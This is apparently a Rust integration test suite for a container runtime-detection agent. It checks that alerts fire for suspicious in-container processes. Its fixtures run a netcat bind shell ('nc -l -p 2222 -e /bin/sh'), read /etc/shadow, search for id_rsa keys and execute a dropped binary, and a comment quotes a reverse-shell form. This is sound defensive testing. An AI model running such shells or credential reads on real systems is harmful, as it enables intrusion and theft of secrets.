#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Runtime detection on the real engine: what a container's own processes
//! do raises process alerts with container, executable, arguments and
//! parent; a container that only sleeps and serves raises none; a
//! terminal shell from `docker exec -it` is seen; `jaga top` and the API
//! list what runs.
//!
//! Fixtures follow Falco's event-generator actions where they apply
//! (events/syscall/*.go): netcat_remote_code_execution_in_container
//! (`nc -e /bin/sh HOST 22`; here its bind-shell form `nc -l -p PORT -e
//! /bin/sh`, which lives until a peer comes: the client form replaces
//! itself with the shell at once, before its arguments can be read), search_private_keys
//! (`find DIR -maxdepth 1 -iname id_rsa`), and the terminal shell.

mod common;

use std::process::Command;
use std::time::Duration;

use common::agent::{free_port, get_url, series_value, Agent};
use common::*;

/// Generous: the rules answer in milliseconds; the machine is shared.
const DEADLINE: Duration = Duration::from_secs(30);

/// Process alerts of `rule` about `container` (a name).
fn alerts(agent: &Agent, rule: &str, container: &str) -> Vec<serde_json::Value> {
    agent
        .alerts(rule, container)
        .into_iter()
        .filter(|a| a["location"] == "process")
        .collect()
}

fn wait_alert(agent: &Agent, rule: &str, container: &str) -> serde_json::Value {
    wait_for(DEADLINE, || {
        alerts(agent, rule, container).into_iter().next()
    })
    .unwrap_or_else(|| panic!("no alert {rule} for {container} within {DEADLINE:?}"))
}

/// The processes the agent lists for `name`, once the collector knows it.
fn processes(agent: &Agent, name: &str) -> Option<serde_json::Value> {
    let (status, body) = agent.get(&format!("/api/v1/containers/{name}/processes"));
    (status == 200).then(|| serde_json::from_str(&body).unwrap())
}

fn quiet_agent(data: &std::path::Path) -> Agent {
    let agent = Agent::start(data, "[audit]\ndisabled = true\n");
    let health = agent.json("/healthz");
    assert_eq!(
        health["process"]["mode"], "connector+fanotify",
        "the tests run as root: {health}"
    );
    agent
}

#[test]
fn a_containers_own_process_reads_shadow_listens_and_runs_a_dropped_binary() {
    require_engine();
    let data = tempfile::tempdir().unwrap();
    let agent = quiet_agent(data.path());
    // The container's main process, not docker exec. Commands that must
    // show their arguments wait a moment on stdin: a process gone within a
    // millisecond keeps its executable and container, not its arguments.
    let script = "sleep 1; \
        echo 'root:*:19000:0:99999:7:::' > /etc/shadow; \
        sleep 0.3 | /bin/cat /etc/shadow -; \
        /bin/nc -l -p 4444 & \
        /bin/nc -l -p 2222 -e /bin/sh & \
        cp /bin/busybox /tmp/cat; \
        sleep 0.3 | /tmp/cat /etc/hostname -; \
        /bin/find /tmp -maxdepth 1 -iname id_rsa -exec sleep 0.3 ';' -o -name cat -exec sleep 0.3 ';'; \
        exec sleep 600";
    let c = TestContainer::run("proc", &["--network", "none", BUSYBOX, "sh", "-c", script]);

    // The shell's own command line names /etc/shadow too: take cat's.
    let shadow = wait_for(DEADLINE, || {
        alerts(&agent, "96007", &c.name)
            .into_iter()
            .find(|a| a["data"]["cmdline"] == "/bin/cat /etc/shadow -")
    })
    .expect("cat /etc/shadow alerted");
    assert_eq!(shadow["container"]["id"], c.id.as_str());
    assert_eq!(shadow["container"]["name"], c.name.as_str());
    assert_eq!(shadow["container"]["image"], BUSYBOX);
    assert_eq!(shadow["data"]["exe"], "/bin/busybox");
    assert_eq!(shadow["data"]["cmdline"], "/bin/cat /etc/shadow -");
    assert_eq!(shadow["data"]["parent_exe"], "/bin/busybox");
    assert_eq!(
        shadow["data"]["falco_rule"],
        "Read sensitive file untrusted"
    );
    assert_eq!(shadow["rule"]["mitre"][0], "T1003.008");

    // Both nc are started in the background at once: either may exec, and
    // be alerted, first. Wait for the one listening on 4444 itself.
    let listens_on_4444 = || {
        alerts(&agent, "96003", &c.name)
            .into_iter()
            .filter(|a| a["data"]["cmdline"] == "/bin/nc -l -p 4444")
            .collect::<Vec<_>>()
    };
    let listen =
        wait_for(DEADLINE, || listens_on_4444().into_iter().next()).expect("nc -l -p 4444 alerted");
    assert_eq!(listen["data"]["args_known"], "true", "{listen}");

    let tmp = wait_alert(&agent, "96016", &c.name);
    assert_eq!(tmp["data"]["exe"], "/tmp/cat");
    assert_eq!(tmp["data"]["cmdline"], "/tmp/cat /etc/hostname -");
    let drift = wait_alert(&agent, "96019", &c.name);
    assert_eq!(drift["data"]["exe"], "/tmp/cat");
    assert_eq!(drift["data"]["exe_writable_layer"], "true");

    // (event-generator: netcat_remote_code_execution_in_container)
    let rce = wait_alert(&agent, "96002", &c.name);
    assert_eq!(rce["data"]["cmdline"], "/bin/nc -l -p 2222 -e /bin/sh");
    // (event-generator: search_private_keys_or_passwords)
    let search = wait_alert(&agent, "96011", &c.name);
    assert!(
        search["data"]["cmdline"]
            .as_str()
            .unwrap()
            .starts_with("/bin/find /tmp -maxdepth 1 -iname id_rsa"),
        "{search}"
    );

    // What runs now: the API and jaga top, from the agent's own table.
    let listed = wait_for(DEADLINE, || {
        let answer = processes(&agent, &c.name)?;
        let commands: Vec<String> = answer["processes"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p["command"].as_str().unwrap_or_default().to_owned())
            .collect();
        (commands.iter().any(|c| c == "sleep 600")
            && commands.iter().any(|c| c == "/bin/nc -l -p 4444"))
        .then_some(commands)
    })
    .expect("the container's processes listed");
    assert!(!listed.iter().any(|c| c.contains("/tmp/cat")), "{listed:?}");
    // By now every execution of the script has been seen: one nc, one alert.
    assert_eq!(listens_on_4444().len(), 1, "{listen}");
    let top = jaga(&["top", &c.name, "--url", &agent.url("")]);
    let out = String::from_utf8_lossy(&top.stdout);
    assert!(
        top.status.success(),
        "{}",
        String::from_utf8_lossy(&top.stderr)
    );
    assert!(out.starts_with("UID "), "{out}");
    assert!(
        out.lines()
            .any(|l| l.starts_with("root ") && l.ends_with("sleep 600")),
        "{out}"
    );
    assert!(
        out.lines().any(|l| l.ends_with("/bin/nc -l -p 4444")),
        "{out}"
    );

    // The figures reach /metrics with the next collection.
    wait_for(DEADLINE, || {
        let metrics = agent.metrics();
        let connector = series_value(
            &metrics,
            "jaga_process_source_available",
            &["source=\"connector\""],
        );
        let alerts = series_value(&metrics, "jaga_process_alerts_total", &[]);
        (connector == Some(1.0) && alerts.is_some_and(|n| n >= 6.0)).then_some(())
    })
    .expect("jaga_process_* in /metrics");
}

#[test]
fn a_container_that_only_sleeps_and_serves_raises_nothing() {
    require_engine();
    let data = tempfile::tempdir().unwrap();
    let agent = quiet_agent(data.path());
    let port = free_port();
    let publish = format!("127.0.0.1:{port}:80");
    let web = TestContainer::run("quietweb", &["-p", &publish, NGINX]);
    let sleeper = TestContainer::run(
        "quietsleep",
        &["--network", "none", BUSYBOX, "sleep", "600"],
    );
    for _ in 0..20 {
        wait_for(Duration::from_secs(10), || {
            (get_url(&format!("http://127.0.0.1:{port}/"), None).0 == 200).then_some(())
        })
        .expect("nginx answers");
    }
    // Both seen (so their silence means something) ...
    for (name, command) in [(&web.name, "nginx"), (&sleeper.name, "sleep 600")] {
        wait_for(DEADLINE, || {
            let answer = processes(&agent, name)?;
            answer["processes"]
                .as_array()
                .unwrap()
                .iter()
                .any(|p| p["command"].as_str().unwrap_or_default().contains(command))
                .then_some(())
        })
        .unwrap_or_else(|| panic!("{name}: '{command}' not listed"));
    }
    // ... and a later container's alert has been handled, so any of theirs would be too.
    let marker = TestContainer::run(
        "marker",
        &[
            "--network",
            "none",
            BUSYBOX,
            "sh",
            "-c",
            "sleep 0.5 | /bin/cat /etc/shadow -; exec sleep 600",
        ],
    );
    wait_alert(&agent, "96007", &marker.name);
    for name in [&web.name, &sleeper.name] {
        let all = agent.json(&format!("/api/v1/alerts?container={name}&limit=1000"));
        let process: Vec<_> = all
            .as_array()
            .unwrap()
            .iter()
            .filter(|a| a["location"] == "process")
            .collect();
        assert!(process.is_empty(), "{name}: {process:?}");
    }
}

#[test]
fn docker_exec_it_sh_raises_the_terminal_shell_rule() {
    require_engine();
    let data = tempfile::tempdir().unwrap();
    let agent = quiet_agent(data.path());
    let c = TestContainer::run("tty", &["--network", "none", BUSYBOX, "sleep", "600"]);
    // `script` gives docker exec -it the terminal a person would have.
    let status = Command::new("script")
        .args([
            "-qec",
            // An interactive shell stays a shell: it must not exec its last command.
            &format!("docker exec -it {} sh -c 'sleep 0.5; exit 0'", c.name),
            "/dev/null",
        ])
        .status()
        .expect("run script (util-linux)");
    assert!(status.success());
    let shell = wait_alert(&agent, "96000", &c.name);
    assert_eq!(shell["data"]["tty"], "true");
    assert_eq!(shell["data"]["name"], "sh");
    assert_eq!(shell["data"]["falco_rule"], "Terminal shell in container");
    assert_eq!(shell["container"]["name"], c.name.as_str());
}

#[test]
fn without_cap_sys_admin_jaga_says_fanotify_is_missing_and_still_sees_execs() {
    require_engine();
    let data = tempfile::tempdir().unwrap();
    // Root without CAP_SYS_ADMIN (and CAP_NET_ADMIN, which the connector
    // no longer needs from Linux 6.6): no fanotify.
    let mut agent = Agent::spawn(
        data.path(),
        "[audit]\ndisabled = true\n",
        common::agent::Launch {
            wrapper: &["setpriv", "--bounding-set=-net_admin,-sys_admin"],
            ..Default::default()
        },
    );
    agent.wait_until("/healthz answers 200", |agent| {
        agent.get("/healthz").0 == 200
    });
    let health = agent.json("/healthz");
    let why = health["process"]["unavailable"]["fanotify"]
        .as_str()
        .unwrap_or_else(|| panic!("{health}"));
    assert!(why.contains("Operation not permitted"), "{why}");
    let c = TestContainer::run(
        "nofan",
        &[
            "--network",
            "none",
            BUSYBOX,
            "sh",
            "-c",
            "sleep 1; sleep 0.3 | /bin/cat /etc/shadow -; exec sleep 600",
        ],
    );
    let shadow = wait_for(DEADLINE, || {
        alerts(&agent, "96007", &c.name)
            .into_iter()
            .find(|a| a["data"]["cmdline"] == "/bin/cat /etc/shadow -")
    })
    .expect("cat /etc/shadow seen without fanotify");
    assert_eq!(shadow["data"]["exe_from"], "proc");
    wait_for(DEADLINE, || {
        let metrics = agent.metrics();
        (series_value(
            &metrics,
            "jaga_process_source_available",
            &["source=\"fanotify\""],
        ) == Some(0.0))
        .then_some(())
    })
    .expect("jaga_process_source_available says fanotify is not used");
}

#[test]
fn polling_says_so_and_sees_a_process_that_lives_long_enough() {
    require_engine();
    let data = tempfile::tempdir().unwrap();
    let agent = Agent::start(
        data.path(),
        "[audit]\ndisabled = true\n[process]\nmode = \"poll\"\npoll_interval = \"100ms\"\n",
    );
    let health = agent.json("/healthz");
    assert_eq!(health["process"]["mode"], "poll", "{health}");
    assert!(
        health["process"]["unavailable"]["connector"].is_string(),
        "{health}"
    );
    let c = TestContainer::run(
        "polled",
        &[
            "--network",
            "none",
            BUSYBOX,
            "sh",
            "-c",
            "sleep 1; cp /bin/busybox /tmp/sleep; /tmp/sleep 2; exec sleep 600",
        ],
    );
    let dropped = wait_alert(&agent, "96016", &c.name);
    assert_eq!(dropped["data"]["cmdline"], "/tmp/sleep 2");
    assert_eq!(dropped["data"]["seen_by"], "poll");
    wait_for(DEADLINE, || {
        let metrics = agent.metrics();
        (series_value(
            &metrics,
            "jaga_process_source_available",
            &["source=\"poll\""],
        ) == Some(1.0)
            && series_value(
                &metrics,
                "jaga_process_source_available",
                &["source=\"connector\""],
            ) == Some(0.0))
        .then_some(())
    })
    .expect("jaga_process_source_available says poll");
}
